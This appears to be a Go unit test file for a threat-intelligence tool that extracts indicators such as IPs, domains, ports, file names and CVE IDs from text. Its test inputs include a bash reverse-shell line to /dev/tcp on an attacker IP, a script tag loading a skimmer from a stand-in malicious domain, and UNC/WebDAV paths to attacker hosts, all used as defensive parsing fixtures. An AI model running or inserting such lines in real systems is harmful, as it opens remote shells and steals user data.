package extract_test

import (
	"strings"
	"testing"

	"github.com/portent-cti/portent/internal/extract"
	"github.com/portent-cti/portent/internal/intel"
)

func TestURLsOfEverySchemeHaveHostAndPort(t *testing.T) {
	checkLive(t, "", map[string]string{
		"mysql://root:pw@45.134.21.98:3306/db":             "ipv4:45.134.21.98 port:3306/tcp url:mysql://root:pw@45.134.21.98:3306/db",
		"redis://45.134.21.98:6379 and rdp://45.134.21.98": "ipv4:45.134.21.98 port:6379/tcp url:rdp://45.134.21.98 url:redis://45.134.21.98:6379",
		"xmpp://chat.evil-drop.com":                        "domain:chat.evil-drop.com url:xmpp://chat.evil-drop.com",
		"udp://45.134.21.98:53":                            "ipv4:45.134.21.98 port:53/udp url:udp://45.134.21.98:53",
		"content://com.google.photos":                      "",
		`<script src="//cdn.evil-drop.com/skim.js">`:       "domain:cdn.evil-drop.com url:http://cdn.evil-drop.com/skim.js",
	})
}

func TestHostsInPathsOfDevicesAndSharesAreRead(t *testing.T) {
	checkLive(t, "", map[string]string{
		"bash -i >& /dev/tcp/45.134.21.98/4444 0>&1":       "ipv4:45.134.21.98 port:4444/tcp",
		"exec 5<>/dev/udp/ns.evil-drop.com/53":             "domain:ns.evil-drop.com port:53/udp",
		`\\45.134.21.98\share\x.lnk`:                       "filename:x.lnk ipv4:45.134.21.98",
		`\\evil-drop[.]com@SSL@8443\DavWWWRoot\a.js`:       "domain:evil-drop.com filename:a.js port:8443/tcp",
		`"\\\\45.134.21.98\\share\\y.exe"`:                 "filename:y.exe ipv4:45.134.21.98",
		`search-ms:crumb=location:\\45.134.21.98@80\share`: "ipv4:45.134.21.98 port:80/tcp",
		`C:\\Windows\\x.exe and \\fileserver\x\y.exe`:      "filename:x.exe filename:y.exe",
	})
}

func TestWhatAURLCarriesIsReadBesideIt(t *testing.T) {
	carried := " domain:evil-drop.com url:https://evil-drop.com/x"
	for _, url := range []string{
		"https://shared-site.com/url?q=https://evil-drop.com/x&sa=D",
		"https://shared-site.com/?url=https%3A%2F%2Fevil-drop.com%2Fx&data=05",
		"https://shared-site.com/v3/__https://evil-drop.com/x__;!!abc",
		"https://shared-site.com/web/20260101000000/https://evil-drop.com/x",
		"hxxps://shared-site[.]com/r?u=hxxps://evil-drop[.]com/x",
	} {
		if got := " " + strings.Join(found(scanner(t), url), " "); got != carried {
			t.Errorf("%s: got %q, want %q", url, got, carried)
		}
	}
	checkLive(t, "", map[string]string{
		"https://shared-site.com/gui/domain/evil-drop.com":    "domain:evil-drop.com",
		"https://shared-site.com/gui/ip-address/45.134.21.98": "ipv4:45.134.21.98",
		"https://shared-site.com/techniques/T1059/001/":       "technique:T1059.001",
		"https://shared-site.com/vuln/detail/CVE-2099-1234":   "vulnerability:CVE-2099-1234",
		"https://shared-site.com/news/evil-drop.com":          "",
	})
	text := strings.Repeat("http://a.com/", 300)
	if n := len(scanner(t).Observations(intel.Document{Text: text})); n > 8 {
		t.Errorf("URLs in each other to any depth are %d values", n)
	}
	if steps := extract.Steps(scanner(t), text, false); steps > 40*len(text) {
		t.Errorf("%d steps for %d bytes", steps, len(text))
	}
}
